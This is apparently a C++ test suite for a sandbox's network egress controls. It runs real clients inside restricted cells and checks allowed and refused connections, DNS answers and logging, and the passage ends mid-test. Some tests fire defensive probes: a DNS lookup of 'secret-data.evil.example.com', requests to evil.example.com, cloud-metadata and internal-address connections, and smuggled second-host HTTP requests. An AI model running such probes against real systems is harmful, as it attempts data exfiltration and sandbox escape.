// Real programs in cells that may reach a few hosts: what they get, and what is known about it
// afterwards.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "support/egress_lab.h"

namespace sallyport::test {
namespace {

using testing::AllOf;
using testing::Contains;
using testing::Each;
using testing::ElementsAre;
using testing::EndsWith;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::SizeIs;
using testing::StartsWith;
using testing::UnorderedElementsAre;
using Words = std::vector<std::string>;

constexpr const char* kPython = "/usr/bin/python3";
// Hosts that are refused are refused at once: this much is for a loaded machine.
constexpr std::int64_t kAtOnce = 4000;

class Egress : public CellTest {
 protected:
  struct Said {
    boost::json::object result;
    std::string out, err;
  };
  Said cell(const Words& hosts, Words command, const Words& options = {}) {
    Words args = {"--json", "--timeout", "60s", "--cpu", "60s", "--memory", "1GiB"};
    for (const std::string& host : hosts)
      args.insert(args.end(), {"--net", host});
    args.insert(args.end(), options.begin(), options.end());
    args.push_back("--");
    args.insert(args.end(), command.begin(), command.end());
    Said said{.result = lab_.cell(GetParam(), args).json(), .out = {}, .err = {}};
    said.out = text_of(said.result, "output");
    said.err = text_of(said.result, "error");
    return said;
  }
  Said shell(const Words& hosts, const std::string& script, const Words& options = {}) {
    return cell(hosts, {"sh", "-c", script}, options);
  }
  Said python(const Words& hosts, const std::string& script, const Words& options = {}) {
    return cell(hosts, {kPython, "-c", script}, options);
  }

  EgressLab lab_;
};

// ---- Clients

TEST_P(Egress, CurlReachesAHostInEveryWay) {
  const Said said = shell({"api.example.com", "api.example.com:80"},
                          "C='curl -sS --max-time 20'\n"
                          "$C --noproxy '*' https://api.example.com/direct\n"
                          "$C https://api.example.com/proxied\n"
                          "$C -x socks5h://198.18.0.1:3128 https://api.example.com/socks\n"
                          "$C --noproxy '*' http://api.example.com/plain http://API.example.com/2\n"
                          "$C http://api.example.com/plain-proxied http://api.example.com/2\n"
                          "$C -x socks5h://198.18.0.1:3128 http://api.example.com/plain-socks\n"
                          "$C -p http://api.example.com/plain-connect\n"
                          "$C --noproxy '*' -d body-1 http://api.example.com/post\n"
                          "$C -H 'Transfer-Encoding: chunked' -d body-2 http://api.example.com/\n"
                          "$C -H 'Expect: 100-continue' -d body-3 http://api.example.com/post\n"
                          "$C --noproxy '*' http://api.example.com/chunked\n"
                          "$C -i --noproxy '*' http://api.example.com/trailers | grep -ci lab\n"
                          "$C --noproxy '*' http://api.example.com/trailers\n"
                          "$C --noproxy '*' -I http://api.example.com/head | head -n 1\n"
                          "$C --noproxy '*' http://api.example.com/bytes/3000000 | wc -c\n"
                          "$C http://v6.example.com/six || true\n",
                          {"--net", "v6.example.com:80"});
  EXPECT_EQ(said.out,
            "hello api.example.com /direct\n"
            "hello api.example.com /proxied\n"
            "hello api.example.com /socks\n"
            "hello api.example.com /plain\n"
            "hello api.example.com /2\n"
            "hello api.example.com /plain-proxied\n"
            "hello api.example.com /2\n"
            "hello api.example.com /plain-socks\n"
            "hello api.example.com /plain-connect\n"
            "body-1body-2body-3hello chunked\n"
            "0\nhello chunked\n"
            "HTTP/1.1 200 OK\r\n"
            "3000000\n"
            "hello v6.example.com /six\n")
      << said.err;
  EXPECT_EQ(
      lab_.outside({"sh", "-c", "curl -si http://api.example.com/trailers | grep -ci lab"}).out,
      "1\n");
  const Words network = network_of(said.result);
  const std::string there = "allowed api.example.com:443 at 93.184.216.34";
  const std::string plain = "request allowed api.example.com:80 at 93.184.216.34";
  EXPECT_EQ(std::ranges::count(network, "connection " + there), 3) << said.err;
  EXPECT_EQ(std::ranges::count(network, plain), 14);
  EXPECT_THAT(network,
              Contains("request allowed v6.example.com:80 at 2606:2800:220:1::34").Times(1));
  EXPECT_THAT(network, SizeIs(18));
  EXPECT_THAT(names_of(said.result), ElementsAre("allowed api.example.com"));

  std::int64_t received = 0;
  for (const auto& event : said.result.at("network").as_array()) {
    if (event.at("kind") == "name") continue;
    EXPECT_THAT(text_of(event.as_object(), "rule"), StartsWith("--net "));
    EXPECT_GT(event.at("sent").as_int64(), 60);
    received += event.at("received").as_int64();
  }
  EXPECT_GT(received, 3'000'000);
  EXPECT_EQ(said.result.at("usage").at("network_requests"), 18);
  // Nothing was asked for but the names of the rules.
  for (const std::string& line : lines_of(lab_.seen(), "dns"))
    EXPECT_THAT(line, testing::AnyOf(StartsWith("dns api.example.com "),
                                     StartsWith("dns v6.example.com ")));
}

TEST_P(Egress, PythonsClientsReachAHost) {
  const Said said = python({"api.example.com", "api.example.com:80"},
                           "import urllib.request, requests, httpx\n"
                           "for url in ('https://api.example.com/', 'http://api.example.com/'):\n"
                           "  print(urllib.request.urlopen(url + 'urllib').read())\n"
                           "  print(requests.get(url + 'requests').text)\n"
                           "  print(httpx.get(url + 'httpx').text)\n"
                           "  direct = urllib.request.build_opener(\n"
                           "    urllib.request.ProxyHandler({}))\n"
                           "  print(direct.open(url + 'urllib-direct').read())\n"
                           "  with requests.Session() as session:\n"
                           "    session.trust_env = False\n"
                           "    session.verify = '/lab/ca.pem'\n"
                           "    print(session.get(url + 'requests-direct').text)\n"
                           "    print(session.post(url + 'post', data='x' * 200000).text == "
                           "'x' * 200000)\n"
                           "  print(httpx.get(url + 'httpx-direct', verify='/lab/ca.pem',\n"
                           "                  trust_env=False).text)\n"
                           "try: requests.get('https://evil.example.com/')\n"
                           "except requests.exceptions.ProxyError as error:\n"
                           "  print('403' in str(error), 'Refused by Sallyport' in str(error))\n");
  for (const char* path :
       {"urllib", "requests", "httpx", "urllib-direct", "requests-direct", "httpx-direct"})
    EXPECT_THAT(said.out, HasSubstr(std::string("hello api.example.com /") + path))
        << path << said.err;
  EXPECT_THAT(said.out, EndsWith("True True\n")) << said.err;
  EXPECT_THAT(said.out, Not(HasSubstr("False")));
  const Words network = network_of(said.result);
  EXPECT_THAT(network,
              Contains("connection allowed api.example.com:443 at 93.184.216.34").Times(6));
  EXPECT_THAT(network, Contains("request allowed api.example.com:80 at 93.184.216.34").Times(7));
  EXPECT_THAT(network, Contains(AllOf(StartsWith("connection refused evil.example.com:443"),
                                      EndsWith("no rule allows evil.example.com:443"))));
}

TEST_P(Egress, NodeReachesAHostAndKeepsASocketOpen) {
  const Said said = cell(
      {"api.example.com", "api.example.com:80"},
      {"node", "-e",
       "const WebSocket = require('ws');\n"
       "const talk = url => new Promise((done, failed) => {\n"
       "  const socket = new WebSocket(url); let count = 0;\n"
       "  socket.on('error', failed);\n"
       "  socket.on('open', () => socket.send('one'));\n"
       "  socket.on('message', text => { console.log(url, String(text));\n"
       "    if (++count == 2) socket.close(); else socket.send('two'); });\n"
       "  socket.on('close', done); });\n"
       "(async () => {\n"
       "  console.log(await (await fetch('https://api.example.com/fetch')).text());\n"
       "  console.log(await (await fetch('http://api.example.com/', {method: 'POST', body: "
       "'posted'})).text());\n"
       "  await talk('ws://api.example.com/socket');\n"
       "  await talk('wss://api.example.com/socket');\n"
       "  await fetch('https://evil.example.com/').catch(error => console.log(error.cause.code));\n"
       "  process.exit(0);\n"
       "})();\n"},
      {"--env", "NODE_PATH=/usr/share/nodejs:/usr/lib/nodejs"});
  EXPECT_EQ(said.out,
            "hello api.example.com /fetch\n\nposted\n"
            "ws://api.example.com/socket one\nws://api.example.com/socket two\n"
            "wss://api.example.com/socket one\nwss://api.example.com/socket two\n"
            "EAI_AGAIN\n")
      << said.err;
  EXPECT_THAT(network_of(said.result),
              UnorderedElementsAre("connection allowed api.example.com:443 at 93.184.216.34",
                                   "connection allowed api.example.com:443 at 93.184.216.34",
                                   "request allowed api.example.com:80 at 93.184.216.34",
                                   "request allowed api.example.com:80 at 93.184.216.34"));
  EXPECT_THAT(names_of(said.result), Contains("refused evil.example.com"));
}

TEST_P(Egress, GitClonesOverHttps) {
  const std::string repository = lab_ / "www/repo.git";
  const Ran made = run({"sh", "-c",
                        "set -e; git init -q -b main $0.work; cd $0.work; echo content > file;"
                        "git add file; git -c user.name=t -c user.email=t@example.com commit -qm "
                        "one; git clone -q --bare . $0; git -C $0 update-server-info",
                        repository},
                       {.environment = {"HOME=/"}});
  ASSERT_EQ(made.exit_code, 0) << made.err;
  const Said said = shell({"api.example.com"},
                          "git clone -q https://api.example.com/repo.git a && cat a/file\n"
                          "env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY "
                          "git clone -q https://api.example.com/repo.git b && cat b/file\n"
                          "git clone -q https://evil.example.com/repo.git c || echo no\n");
  EXPECT_EQ(said.out, "content\ncontent\nno\n") << said.err;
  EXPECT_THAT(network_of(said.result),
              Contains("connection allowed api.example.com:443 at 93.184.216.34"));
}

TEST_P(Egress, ServersThatSpeakFirstAreReachedByTheirNames) {
  const Said said =
      shell({"api.example.com", "api.example.com:7000,tcp", "api.example.com:5432,postgres"},
            "openssl s_client -connect api.example.com:443 -servername api.example.com "
            "-CAfile /lab/ca.pem -verify_return_error </dev/null 2>/dev/null | grep -ao 'Verify "
            "return code: 0 (ok)' | head -n 1\n"
            "openssl s_client -connect api.example.com:443 -noservername </dev/null 2>&1 | "
            "grep -ao 'alert access denied' | head -n 1\n"
            "/usr/bin/python3 -c \"\n"
            "import socket\n"
            "for port in 7000, 5432:\n"
            "  with socket.create_connection(('api.example.com', port), 20) as one:\n"
            "    print(one.recv(100), one.getpeername())\n"
            "    one.sendall(b'x' * 100000)\n"
            "    one.shutdown(socket.SHUT_WR)\n"
            "    size = 0\n"
            "    while data := one.recv(65536): size += len(data)\n"
            "    print(size)\n"
            "\"\n");
  EXPECT_EQ(said.out,
            "Verify return code: 0 (ok)\nalert access denied\n"
            "b'welcome\\n' ('198.18.0.2', 7000)\n100000\n"
            "b'welcome\\n' ('198.18.0.2', 5432)\n100000\n")
      << said.err;
  EXPECT_THAT(
      network_of(said.result),
      ElementsAre("connection allowed api.example.com:443 at 93.184.216.34",
                  "connection refused api.example.com:443: The TLS hello has no server name.",
                  "connection allowed api.example.com:7000 at 93.184.216.34",
                  "connection allowed api.example.com:5432 at 93.184.216.34"));
  for (const auto& event : said.result.at("network").as_array())
    if (event.as_object().contains("port") && event.at("port").as_int64() != 443) {
      EXPECT_EQ(event.at("sent"), 100'000);
      EXPECT_EQ(event.at("received"), 100'008);
    }
}

// HTTP/2 from end to end, with streams both ways: by the name alone, and through the proxy.
TEST_P(Egress, GrpcStreamsBothWays) {
  LiveProcess server = lab_.start(As::root, {kPython, "-c", R"(
import concurrent.futures, grpc, sys
def echo(said, context):
    for one in said: yield b'heard ' + one
class Echo(grpc.GenericRpcHandler):
    def service(self, call):
        return call.method == '/lab.Echo/Say' and grpc.stream_stream_rpc_method_handler(echo) or None
server = grpc.server(concurrent.futures.ThreadPoolExecutor(4), handlers=[Echo()])
own = [open(sys.argv[1] + name, 'rb').read() for name in ('server.key', 'server.pem')]
server.add_secure_port('93.184.216.34:8443', grpc.ssl_server_credentials([tuple(own)]))
server.start()
print('ready', flush=True)
server.wait_for_termination()
)",
                                             lab_ / ""});
  ASSERT_TRUE(server.says("ready"));
  const Said said = python({"api.example.com:8443"}, R"(
import grpc
for proxy in 0, 1:
    with grpc.secure_channel('api.example.com:8443',
                             grpc.ssl_channel_credentials(open('/lab/ca.pem', 'rb').read()),
                             [('grpc.enable_http_proxy', proxy)]) as channel:
        say = channel.stream_stream('/lab.Echo/Say')
        print([bytes(one) for one in say(iter((b'one', b'two')), timeout=30)])
        try: list(channel.stream_stream('/lab.Echo/None')(iter((b'',)), timeout=30))
        except grpc.RpcError as error: print(error.code().name)
)",
                           {"--processes", "256"});
  const std::string both = "[b'heard one', b'heard two']\nUNIMPLEMENTED\n";
  EXPECT_EQ(said.out, both + both) << said.err;
  EXPECT_THAT(network_of(said.result),
              ElementsAre("connection allowed api.example.com:8443 at 93.184.216.34",
                          "connection allowed api.example.com:8443 at 93.184.216.34"));
}

// ---- Names

TEST_P(Egress, NamesAreAnsweredFromTheRulesAlone) {
  const Said said = shell(
      {"api.example.com", "*.wild.example.com", "missing.example.com"},
      "show() { echo \"$@\" $(dig +tries=1 +time=5 \"$@\" | "
      "sed -nE 's/.*status: ([A-Z]+).*/\\1/p; s/^[^;]+IN\\s+A\\s+//p; s/.*Query time: ([0-9]+) "
      ".*/\\1/p' | sed 's/^[0-9]\\{1,3\\}$/ms/'); }\n"
      "show api.example.com\nshow API.Example.com. A\nshow api.example.com AAAA\n"
      "show api.example.com TXT\nshow a.wild.example.com\nshow wild.example.com\n"
      "show secret-data.evil.example.com\nshow api.example.com.evil.example.com TXT\n"
      "show 2130706433\nshow -x 8.8.8.8\nshow api.example.com +tcp +noedns | head -n 1\n"
      "show @127.0.0.1 +norecurse api.example.com\n"
      "show 'se cret.evil.example.com'\nshow 'a\\.b.example.com'\n"
      "curl -sS --max-time 20 https://missing.example.com/ 2>&1 | head -n 1\n");
  EXPECT_THAT(said.out,
              AllOf(StartsWith("api.example.com NOERROR 198.18.0.2 ms\n"
                               "API.Example.com. A NOERROR 198.18.0.2 ms\n"
                               "api.example.com AAAA NOERROR ms\n"
                               "api.example.com TXT NOERROR ms\n"
                               "a.wild.example.com NOERROR 198.18.0.3 ms\n"
                               "wild.example.com REFUSED ms\n"
                               "secret-data.evil.example.com REFUSED ms\n"
                               "api.example.com.evil.example.com TXT REFUSED ms\n"
                               "2130706433 REFUSED ms\n"
                               "-x 8.8.8.8 REFUSED ms\n"
                               "api.example.com +tcp +noedns\n"
                               "@127.0.0.1 +norecurse api.example.com NOERROR 198.18.0.2 ms\n"
                               "se cret.evil.example.com REFUSED ms\n"
                               "a\\.b.example.com REFUSED ms\n"),
                    HasSubstr("curl: (35)")))
      << said.err;
  EXPECT_THAT(names_of(said.result),
              UnorderedElementsAre(
                  "allowed api.example.com", "allowed a.wild.example.com",
                  "refused wild.example.com", "refused secret-data.evil.example.com",
                  "refused api.example.com.evil.example.com", "refused 2130706433",
                  "refused 8.8.8.8.in-addr.arpa", "refused (a question that cannot be read)"));
  EXPECT_THAT(network_of(said.result),
              ElementsAre("connection failed missing.example.com:443: the host "
                          "'missing.example.com' does not exist"));
  // What a cell asks for goes nowhere; only what it connects to is looked up.
  EXPECT_THAT(lines_of(lab_.seen(), "dns"), Each(StartsWith("dns missing.example.com ")));
  // The twin: without a cell the same question leaves.
  EXPECT_EQ(lab_.outside({"dig", "+short", "secret-data.evil.example.com"}).exit_code, 0);
  EXPECT_THAT(lab_.seen(), ElementsAre("dns secret-data.evil.example.com 1"));
}

TEST_P(Egress, WordsOfARuleSayWhereANameLeads) {
  const Said said = shell({"private10.example.com:80,internal",
                           "pinned.example.com:80,address=93."
                           "184.216.35",
                           "api.example.com:8080,http", "api.example.com:8443",
                           "*.wild.example.com:80", "two.example.com:443"},
                          "C='curl -sS --max-time 20 --noproxy *'\n"
                          "$C http://private10.example.com/\n"
                          "$C http://pinned.example.com/p\n"
                          "$C http://a.wild.example.com/a http://b.wild.example.com/b\n"
                          "$C http://wild.example.com/ 2>/dev/null || echo $?\n"
                          "$C -o /dev/null -w '%{http_code}\\n' http://api.example.com:8080/\n"
                          "$C https://api.example.com:8443/ 2>/dev/null || echo $?\n"
                          "$C https://two.example.com/two\n");
  EXPECT_EQ(said.out,
            "canary\nhello pinned.example.com /p\n"
            "hello a.wild.example.com /a\nhello b.wild.example.com /b\n6\n200\n35\n"
            "hello two.example.com /two\n")
      << said.err;
  EXPECT_THAT(
      network_of(said.result),
      ElementsAre("request allowed private10.example.com:80 at 10.0.0.5",
                  "request allowed pinned.example.com:80 at 93.184.216.35",
                  "request allowed a.wild.example.com:80 at 93.184.216.34",
                  "request allowed b.wild.example.com:80 at 93.184.216.35",
                  "request allowed api.example.com:8080 at 93.184.216.34",
                  "connection failed api.example.com:8443: 93.184.216.34 cannot be reached: "
                  "Connection refused",
                  "connection allowed two.example.com:443 at 93.184.216.35"));
  EXPECT_THAT(lines_of(lab_.seen(), "dns"), Not(Contains(HasSubstr("pinned"))));
}

// "Empty allow-list means allow-all; wildcard in the middle": what is not a host is no rule, and
// nothing starts with it.
TEST_P(Egress, WhatIsNoHostIsNoRule) {
  for (const char* rule : {"",
                           "*",
                           "*.",
                           "*.*",
                           "a.*.com",
                           "api*.example.com",
                           "127.0.0.1",
                           "2130706433",
                           "[::1]",
                           "http://api.example.com",
                           "user@api.example.com",
                           "api.example.com:0",
                           "api.example.com:65536",
                           "api.example.com:80:80",
                           "api.example.com,everything",
                           "api.example.com,address=api",
                           "api.example.com,tcp",
                           "*.example.com:7000,tcp",
                           "api.example.com\xc3\xa4",
                           "api.example.com "}) {
    const Ran ran = lab_.cell(GetParam(), {"--net", rule, "--", "echo", "started"});
    EXPECT_NE(ran.exit_code, 0) << rule;
    EXPECT_THAT(ran.out, IsEmpty()) << rule;
    EXPECT_THAT(ran.err, HasSubstr("sallyport: ")) << rule;
  }
  const Ran two = lab_.cell(GetParam(), {"--net", "api.example.com:80", "--net",
                                         "api.example.com:80,tcp", "--", "echo", "started"});
  EXPECT_THAT(two.err, HasSubstr("two schemes")) << two.out;
}

// ---- What is out of reach

TEST_P(Egress, EverythingElseIsOutOfReachAtOnce) {
  const std::string script = R"(
import errno, json, socket, subprocess, sys, time
def tell(label, action):
    begin = time.monotonic()
    try: said = action()
    except OSError as error: said = errno.errorcode.get(error.errno, type(error).__name__)
    print(label, said, 'slow' if time.monotonic() - begin > 4 else 'at once')
def tcp(host, port):
    def act():
        with socket.create_connection((host, port), 20): return 'connected'
    return act
def udp(host, port):
    def act():
        family = socket.AF_INET6 if ':' in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.settimeout(20)
            one.connect((host, port))
            one.send(b'\xc3 an initial packet of QUIC')
            return one.recv(100)
    return act
def icmp(kind):
    def act():
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as one:
            one.sendto(b'\x08\0\xf7\xff\0\0\0\0', ('93.184.216.34', 0))
            return 'sent'
    return act
for place in (('93.184.216.34', 443), ('93.184.216.34', 80), ('169.254.169.254', 80),
              ('10.0.0.5', 80), ('127.0.0.1', 8080), ('::1', 8080), ('2606:2800:220:1::34', 443),
              ('api.example.com', 22), ('api.example.com', 8080), ('198.18.0.2', 22),
              ('198.18.0.77', 443), ('198.18.0.1', 443), ('2130706433', 8080), ('0x7f.1', 8080)):
    tell('tcp %s %d' % place, tcp(*place))
for place in (('93.184.216.34', 443), ('api.example.com', 443), ('198.18.0.1', 3128),
              ('93.184.216.34', 53), ('2606:2800:220:1::34', 443)):
    tell('udp %s %d' % place, udp(*place))
tell('raw icmp', icmp(socket.SOCK_RAW))
tell('ping', icmp(socket.SOCK_DGRAM))
tell('name evil.example.com', lambda: socket.getaddrinfo('evil.example.com', 443) and 'found')
tell('name evil_.a--b.example.com',
     lambda: socket.getaddrinfo('evil_.a--b.example.com', 443) and 'found')
tell('name sp ace.example.com', lambda: socket.getaddrinfo('sp ace.example.com', 443) and 'found')
)";
  const Said said = python({"api.example.com"}, script);
  EXPECT_THAT(said.out, Not(HasSubstr("slow"))) << said.err;
  EXPECT_THAT(said.out, Not(HasSubstr("connected")));
  EXPECT_THAT(said.out, Not(HasSubstr("canary")));
  EXPECT_THAT(said.out, Not(HasSubstr("found")));
  EXPECT_THAT(said.out, Not(HasSubstr("sent")));
  EXPECT_EQ(std::ranges::count(said.out, '\n'), 24) << said.out << said.err;
  EXPECT_THAT(said.out, AllOf(HasSubstr("tcp 93.184.216.34 443 ENETUNREACH"),
                              HasSubstr("tcp api.example.com 22 ECONNREFUSED"),
                              HasSubstr("udp 93.184.216.34 443 ENETUNREACH"),
                              HasSubstr("udp api.example.com 443 ECONNREFUSED")));
  EXPECT_THAT(lab_.seen(), IsEmpty());

  // The twin: outside of a cell all of it is there.
  const Ran outside = lab_.outside({kPython, "-c", script});
  EXPECT_THAT(
      outside.out,
      AllOf(HasSubstr("tcp 93.184.216.34 443 connected"),
            HasSubstr("tcp 169.254.169.254 80 connected"), HasSubstr("tcp 10.0.0.5 80 connected"),
            HasSubstr("tcp 2130706433 8080 connected"),
            HasSubstr("tcp api.example.com 22 connected"),
            HasSubstr("udp api.example.com 443 b'canary'"), HasSubstr("raw icmp sent")));
  EXPECT_THAT(lines_of(lab_.seen(), "dns"), Contains("dns evil.example.com 1"));

  // Without hosts there are no names at all, and no listeners.
  const Said none = python({}, script);
  EXPECT_THAT(none.out, Not(HasSubstr("slow"))) << none.err;
  EXPECT_THAT(none.out, AllOf(HasSubstr("tcp api.example.com 22 gaierror"),
                              HasSubstr("tcp 198.18.0.1 443 ENETUNREACH"),
                              HasSubstr("udp api.example.com 443 gaierror")));
  EXPECT_FALSE(none.result.contains("network"));
  EXPECT_THAT(shell({}, "env | grep -ic proxy; cat /etc/resolv.conf").out, "0\n");
  EXPECT_THAT(lab_.seen(), IsEmpty());
}

TEST_P(Egress, LoopbackIsTheCellsOwn) {
  const Said said = python({"api.example.com:80"}, R"(
import http.server, threading, urllib.request, socket
for place in (('127.0.0.1', 8000), ('127.0.0.1', 1080), ('127.0.0.7', 443 + 8000)):
    server = http.server.HTTPServer(place, http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(urllib.request.urlopen('http://%s:%d/' % place).status if place[0] == '127.0.0.1' else
          socket.create_connection(place).getpeername()[0])
with socket.create_server(('::1', 8000), family=socket.AF_INET6) as server:
    print(socket.create_connection(('::1', 8000)).getpeername()[0])
print(urllib.request.urlopen('http://api.example.com/').read())
)");
  EXPECT_EQ(said.out, "200\n200\n127.0.0.7\n::1\nb'hello api.example.com /\\n'\n") << said.err;
  EXPECT_THAT(network_of(said.result),
              ElementsAre("request allowed api.example.com:80 at 93.184.216.34"));
}

// ---- Requests, each by itself

TEST_P(Egress, EveryRequestOfAConnectionIsJudged) {
  const auto get = [](const std::string& host, const std::string& path) {
    return "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n";
  };
  const auto proxied = [](const std::string& host) {
    return "GET http://" + host + "/ HTTP/1.1\r\nHost: " + host + "\r\n\r\n";
  };
  const std::string api = "api.example.com", two = "two.example.com", evil = "evil.example.com";
  const auto probed = lab_.probe(
      GetParam(), {"--net", "api.example.com:80", "--net", "two.example.com:80"},
      {{.label = "another host", .host = api, .send = {get(api, "/1") + get(evil, "/2")}},
       {.label = "another allowed host", .host = api, .send = {get(api, "/1") + get(two, "/2")}},
       {.label = "in turn", .host = api, .send = {get(api, "/1"), get(evil, "/2")}},
       {.label = "proxy",
        .host = "198.18.0.1",
        .port = 3128,
        .send = {proxied(api) + proxied(two) + proxied(evil)}}});
  for (const auto& [label, answer] : probed.answers) {
    SCOPED_TRACE(label + ": " + answer.got + answer.error);
    EXPECT_THAT(answer.got, HasSubstr("hello api.example.com /"));
    EXPECT_LT(answer.ms, kAtOnce);
    if (label == "proxy")
      EXPECT_THAT(answer.got, AllOf(HasSubstr("hello two.example.com /"),
                                    HasSubstr("HTTP/1.1 403 Refused by Sallyport")));
    else
      EXPECT_THAT(answer.got, AllOf(HasSubstr("HTTP/1.1 421 Refused by Sallyport"),
                                    HasSubstr("http://api.example.com:80"),
                                    Not(HasSubstr("hello evil")), Not(HasSubstr("hello two"))));
  }
  EXPECT_THAT(network_of(probed.result), Contains(HasSubstr("refused")).Times(4));
  EXPECT_THAT(network_of(probed.result), Contains(StartsWith("request allowed")).Times(5));
  const Words seen = lab_.seen();
  EXPECT_THAT(lines_of(seen, "request"),
              AllOf(SizeIs(5), Not(Contains(HasSubstr("evil"))), Not(Contains(HasSubstr("/2")))));
  EXPECT_THAT(lines_of(seen, "dns"), Not(Contains(HasSubstr("evil"))));
}

TEST_P(Egress, ACallMakesAsManyRequestsAsItMay) {
  const Said said =
      shell({"api.example.com:80", "api.example.com", "api.example.com:7000,tcp"},
            "C='curl -s --max-time 20 --noproxy *'\n"
            "for n in 1 2 3; do $C https://api.example.com/$n; done\n"
            "$C http://api.example.com/4 http://api.example.com/5 -w '%{http_code} '\n"
            "$C https://api.example.com/6; echo $?\n"
            "$C https://api.example.com/7 -x http://198.18.0.1:3128 --noproxy ''\n"
            "echo $?\n"
            "$C telnet://api.example.com:7000 </dev/null && echo open || echo reset\n",
            {"--requests", "4"});
  EXPECT_THAT(said.out, StartsWith("hello api.example.com /1\nhello api.example.com /2\n"
                                   "hello api.example.com /3\nhello api.example.com /4\n200 "
                                   "Sallyport refused this request: the call has made all"))
      << said.err;
  EXPECT_THAT(said.out, EndsWith("429 35\n35\nreset\n")) << said.err;
  EXPECT_THAT(network_of(said.result), Contains(HasSubstr("allowed")).Times(4));
  EXPECT_THAT(network_of(said.result),
              Contains(EndsWith("the call has made all the requests that it may")).Times(4));
  EXPECT_THAT(lines_of(lab_.seen(), "request"), SizeIs(4));
}

// ---- Hosts that fail, and many at once

TEST_P(Egress, HostsThatFailAreSaidToHaveFailed) {
  const Said said =
      shell({"api.example.com:80", "api.example.com:81,http", "missing.example.com:80"},
            "C='curl -s --max-time 20 --noproxy *'\n"
            "$C http://api.example.com/close; echo $?\n"
            "$C -o /dev/null -w '%{http_code}\\n' http://api.example.com:81/\n"
            "$C -o /dev/null -w '%{http_code}\\n' http://missing.example.com/\n"
            "curl -s -o /dev/null -w '%{http_code}\\n' http://missing.example.com/\n");
  EXPECT_EQ(said.out, "56\n502\n502\n502\n") << said.err;
  EXPECT_THAT(network_of(said.result),
              ElementsAre("request failed api.example.com:80 at 93.184.216.34: the host closed the "
                          "connection without an answer",
                          "request failed api.example.com:81: 93.184.216.34 cannot be reached: "
                          "Connection refused",
                          "request failed missing.example.com:80: the host "
                          "'missing.example.com' does not exist",
                          "request failed missing.example.com:80: the host "
                          "'missing.example.com' does not exist"));
}

// Whoever is refused while still sending hears why, and is not cut off.
TEST_P(Egress, ARefusalIsHeardByAClientThatIsStillSending) {
  const Said said = python({"api.example.com:80"}, R"(
import http.client
for host, target in (('198.18.0.1', 'http://evil.example.com/'), ('api.example.com', '/')):
    for chunked in False, True:
        client = http.client.HTTPConnection(host, 3128 if host[0] == '1' else 80, timeout=20)
        client.putrequest('POST', target, skip_host=True)
        client.putheader('Host', 'evil.example.com')
        if chunked: client.putheader('Transfer-Encoding', 'chunked')
        else: client.putheader('Content-Length', '8000000')
        client.endheaders()
        for _ in range(80):
            client.send(b'186a0\r\n' + b'x' * 100000 + b'\r\n' if chunked else b'x' * 100000)
        if chunked: client.send(b'0\r\n\r\n')
        print(client.getresponse().status)
)");
  EXPECT_EQ(said.out, "403\n403\n421\n421\n") << said.err;
  EXPECT_THAT(lines_of(lab_.seen(), "request"), IsEmpty());
}

// One process serves all connections of a cell, so none of them may hold up another, and none may
// fill its memory.
TEST_P(Egress, ManyConnectionsAtOnceDoNotHoldEachOtherUp) {
  const std::string script = R"(
import socket, time, urllib.request
stalled = [socket.create_connection(('stalled.example.com', 80)) for _ in range(10)]
for one in stalled:
    one.sendall(b'POST / HTTP/1.1\r\nHost: stalled.example.com\r\nContent-Length: 100000000\r\n\r\n')
    one.setblocking(False)
idle = [socket.create_connection(('stalled.example.com', 443)) for _ in range(10)]
unread = [socket.create_connection(('api.example.com', 80)) for _ in range(10)]
for one in unread:
    one.sendall(b'GET /bytes/10000000 HTTP/1.1\r\nHost: api.example.com\r\n\r\n')
end = time.monotonic() + 0.5
while time.monotonic() < end:
    for one in stalled:
        try: one.send(b'x' * 65536)
        except BlockingIOError: pass
    time.sleep(0.005)
begin = time.monotonic()
many = [socket.create_connection(('api.example.com', 7000)) for _ in range(200)]
for n, one in enumerate(many): one.sendall(b'%04d' % n)
def all_of(one):
    got = b''
    while len(got) < 12: got += one.recv(100)
    return got
print(all(all_of(one) == b'welcome\n%04d' % n for n, one in enumerate(many)))
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
print(direct.open('http://two.example.com/').read())
print('slow' if time.monotonic() - begin > 10 else 'in time', flush=True)
def is_refused(one):
    try: return one.recv(8) == b''
    except ConnectionResetError: return True
more = [socket.create_connection(('api.example.com', 7000)) for _ in range(60)]
print('refused', sum(is_refused(one) for one in more), flush=True)
time.sleep(60)
)";
  LiveProcess cell = lab_.start_cell(
      GetParam(),
      {"--net", "api.example.com:7000,tcp", "--net", "api.example.com:80", "--net",
       "two.example.com:80", "--net", "stalled.example.com:80", "--net", "stalled.example.com:443",
       "--open-files", "1024", "--timeout", "60s", "--", kPython, "-c", script});
  ASSERT_TRUE(cell.says("in time")) << cell.said();
  EXPECT_THAT(cell.said(), StartsWith("True\nb'hello two.example.com /\\n'\n"));
  // 256 at once: 30 and 200 were open, so there was room for 26 of the last 60.
  ASSERT_TRUE(cell.says("refused 34\n")) << cell.said();
  std::int64_t most = 0;
  for (const pid_t pid : descendants_of(cell.pid()))
    if (read_file("/proc/" + std::to_string(pid) + "/comm") == "sally-egress\n")
      most = std::stol(status_of(pid, "VmHWM"));
  EXPECT_GT(most, 1000);
  EXPECT_LT(most, 24 * 1024);  // kB; what waits to be carried is 100 MB
}

TEST_P(Egress, ManyCellsAtOnce) {
  std::vector<std::unique_ptr<LiveProcess>> cells;
  for (int n = 0; n < 20; ++n)
    cells.push_back(std::unique_ptr<LiveProcess>(new LiveProcess(lab_.start_cell(
        GetParam(), {"--net", "api.example.com", "--timeout", "60s", "--", "curl", "-sS",
                     "--noproxy", "*", "https://api.example.com/" + std::to_string(n)}))));
  for (int n = 0; n < 20; ++n) {
    LiveProcess& cell = *cells[static_cast<std::size_t>(n)];
    EXPECT_TRUE(cell.says("hello api.example.com /" + std::to_string(n) + "\n")) << cell.said();
    EXPECT_EQ(cell.wait(), 0);
  }
}

// An egress process lives as long as its service, and the machine's names change meanwhile.
TEST_P(Egress, ACellHasTheNamesThatTheMachineHasWhenItBegins) {
  const TempDir directory(GetParam());
  std::filesystem::permissions(directory.path(), std::filesystem::perms{0755});
